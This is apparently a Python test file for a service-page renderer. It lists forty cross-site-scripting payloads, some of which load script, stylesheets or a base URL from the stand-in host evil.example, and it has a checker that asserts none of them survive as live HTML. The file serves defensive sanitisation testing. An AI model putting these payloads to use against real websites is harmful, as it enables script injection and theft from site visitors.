"""Forty ways to bring script into a page, and a judge of what a browser would do with the answer."""

import json
from typing import Any

from lxml import html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    "{{ 7|add:7 }}{% load evil %}${alert(1)}",
    "javascript:alert(1)//\u2028</script\u2029><!--<script>",
]
FOREIGN = {"iframe", "object", "embed", "base", "video", "audio", "marquee", "math", "template", "animate", "style"}


def judge(page: str) -> None:
    """Fails when anything of a payload is more than text to a browser."""
    tree = html.document_fromstring(page)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            assert "script" not in str(element.text or ""), element
            continue
        name = element.tag.lower()
        assert name not in FOREIGN, html.tostring(element)[:300]
        attributes = {key.lower(): value for key, value in element.attrib.items()}
        assert not [key for key in attributes if key.startswith("on")], attributes
        for key in ("href", "src", "action", "data", "srcdoc", "formaction"):
            address = "".join(c for c in attributes.get(key, "") if c > " ").lower()
            assert not address.startswith(("javascript:", "data:", "vbscript:")), attributes
            assert "evil.example" not in address, attributes
        if name == "script" and "src" not in attributes:
            assert attributes.get("type") == "application/ld+json", html.tostring(element)[:300]
            json.loads(element.text or "")
        if name == "meta":
            assert attributes.get("http-equiv", "").lower() != "refresh"


LINES = [" ".join(payload.split()) for payload in PAYLOADS]  # for what is one line
_PLAIN = {
    "title": 200, "summary": 400, "fee_note": 300, "hours": 80, "product": 400, "late": 2000, "other_ways": 2000, "pledge": 2000,
    "synonyms": 2000, "complaint_channels": 160, "decree_number": 120,
}  # fmt: skip
ROUNDS = range(4)  # in which each of the forty stands in two plain fields or more


def everywhere(turn: int) -> dict[str, Any]:
    """A service page's fields: the plain ones each with another payload, the rows with all of them."""
    plain = {name: PAYLOADS[(turn * 10 + place) % 40][:most] for place, (name, most) in enumerate(_PLAIN.items())}
    return plain | {
        "who": [("item", p) for p in PAYLOADS],
        "requirements": [("item", {"text": p, "form": "original", "copies": 1, "where": p}) for p in PAYLOADS],
        "exceptions": [("case", {"question": p[:160], "answer": p}) for p in PAYLOADS],
        "fees": [("fee", {"case": p[:160], "amount": 5, "note": p}) for p in PAYLOADS],
        "steps": [("step", {"title": p, "text": p}) for p in PAYLOADS],
        "ways": [("way", {"kind": "counter", "text": p, "value": p}) for p in PAYLOADS],
        "places": [("place", {"point": "", "name": p[:120], "address": p, "hours": [], "note": p}) for p in PAYLOADS],
        "contacts": [("contact", {"kind": "phone", "value": "0321 123456", "name": p[:120]}) for p in PAYLOADS],
        "legal": [("item", {"kind": p[:60], "number": p[:40], "year": 2009, "title": p, "url": ""}) for p in PAYLOADS],
    }
